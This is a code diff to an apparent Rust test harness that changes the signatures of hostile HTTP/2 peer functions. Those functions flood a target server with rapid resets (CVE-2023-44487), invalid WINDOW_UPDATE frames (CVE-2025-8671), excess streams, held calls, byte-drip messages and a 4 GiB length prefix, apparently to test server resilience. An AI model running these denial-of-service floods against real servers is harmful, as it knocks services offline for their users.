@@ -1,15 +1,14 @@
 //! Calls that are reset, refused or never finished.
 
 use std::io;
-use std::sync::atomic::AtomicBool;
 use std::time::Duration;
 
-use greet_testkit::HostilePeer;
 use greet_testkit::framing::framed;
 use greet_testkit::http2::{
     CANCEL, DATA, END_HEADERS, HEADERS, MAX_WINDOW, RST_STREAM, WINDOW_UPDATE, call, call_headers,
     frame,
 };
+use greet_testkit::{AttackState, HostilePeer};
 
 use super::{MAX_CALLS, MAX_STREAMING_CALLS, MESSAGE_BYTES, WATCH};
 use crate::harness::sample;
@@ -38,14 +37,14 @@ fn round(round: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
 }
 
 /// CVE-2023-44487.
-pub(super) fn rapid_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+pub(super) fn rapid_reset(target: &str, attack: &AttackState) -> io::Result<()> {
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     peer.flood(|number| round(number, |stream| [headers(stream), reset(stream)].concat()))
 }
 
 /// The server has accepted each call before its reset.
-pub(super) fn late_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+pub(super) fn late_reset(target: &str, attack: &AttackState) -> io::Result<()> {
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     (0..).try_for_each(|number| {
         peer.send(&round(number, headers))?;
         peer.pause(ACCEPT_TIME)?;
@@ -55,43 +54,43 @@ pub(super) fn late_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
 
 /// CVE-2025-8671: invalid frames make the server reset the calls. Most servers answer the increment 0 of the
 /// published attack with an error of the connection, and one that overflows the window with RST_STREAM.
-pub(super) fn made_you_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+pub(super) fn made_you_reset(target: &str, attack: &AttackState) -> io::Result<()> {
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     let invalid = |stream| frame(WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes());
     peer.flood(|number| round(number, |stream| [headers(stream), invalid(stream)].concat()))
 }
 
-pub(super) fn over_max_streams(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    HostilePeer::connect(target, &[], is_over)?.flood(|number| round(number, headers))
+pub(super) fn over_max_streams(target: &str, attack: &AttackState) -> io::Result<()> {
+    HostilePeer::connect(target, &[], attack)?.flood(|number| round(number, headers))
 }
 
-pub(super) fn without_message(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    open(target, is_over, MAX_CALLS, |stream| call(stream, sample::PATH, None))
+pub(super) fn without_message(target: &str, attack: &AttackState) -> io::Result<()> {
+    open(target, attack, MAX_CALLS, |stream| call(stream, sample::PATH, None))
 }
 
-pub(super) fn watches_without_message(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    open(target, is_over, MAX_CALLS, |stream| call(stream, WATCH, None))
+pub(super) fn watches_without_message(target: &str, attack: &AttackState) -> io::Result<()> {
+    open(target, attack, MAX_CALLS, |stream| call(stream, WATCH, None))
 }
 
-pub(super) fn watches(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    open(target, is_over, MAX_STREAMING_CALLS + 1, |stream| call(stream, WATCH, Some(b"")))
+pub(super) fn watches(target: &str, attack: &AttackState) -> io::Result<()> {
+    open(target, attack, MAX_STREAMING_CALLS + 1, |stream| call(stream, WATCH, Some(b"")))
 }
 
 /// Opens calls and holds them.
 fn open(
     target: &str,
-    is_over: &AtomicBool,
+    attack: &AttackState,
     calls: u32,
     frames: impl Fn(u32) -> Vec<u8>,
 ) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     (0..calls).try_for_each(|call| peer.send(&frames(2 * call + 1)))?;
     peer.hold()
 }
 
 /// Messages that arrive one byte at a time.
-pub(super) fn message_drip(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+pub(super) fn message_drip(target: &str, attack: &AttackState) -> io::Result<()> {
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     let streams = || (0..SLOW_CALLS).map(|call| 2 * call + 1);
     streams().try_for_each(|stream| peer.start_call(stream, sample::PATH))?;
     for byte in framed(&[b'x'; MESSAGE_BYTES]) {
@@ -103,8 +102,8 @@ pub(super) fn message_drip(target: &str, is_over: &AtomicBool) -> io::Result<()>
 }
 
 /// The prefix of a message of 4 GiB.
-pub(super) fn announced_message(target: &str, is_over: &AtomicBool) -> io::Result<()> {
-    let mut peer = HostilePeer::connect(target, &[], is_over)?;
+pub(super) fn announced_message(target: &str, attack: &AttackState) -> io::Result<()> {
+    let mut peer = HostilePeer::connect(target, &[], attack)?;
     let prefix = [0, 0xff, 0xff, 0xff, 0xff];
     let frames = |stream| [headers(stream), frame(DATA, 0, stream, &prefix)].concat();
     peer.flood(|number| round(number, frames))
